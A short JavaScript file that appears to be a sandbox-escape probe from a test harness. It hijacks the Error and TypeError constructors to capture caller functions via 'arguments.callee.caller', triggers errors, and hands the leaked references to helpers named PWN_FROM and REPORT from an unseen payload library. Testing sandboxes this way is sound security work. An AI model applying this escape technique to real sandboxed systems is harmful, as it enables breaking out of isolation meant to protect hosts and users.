require("./lib/payload.js");
var leaked = [];
try { Error = function (m) { leaked.push(arguments.callee.caller); this.message = m; }; } catch (e) {}
try { TypeError.prototype.constructor = function () { leaked.push(arguments.callee.caller); }; } catch (e) {}
try { A(); } catch (e) { leaked.push(e.constructor); }
try { MX("@"); } catch (e) { leaked.push(e.constructor); }
leaked.forEach(function (v, i) { if (v) PWN_FROM(v, "err" + i); });
REPORT("err", "done " + leaked.length);
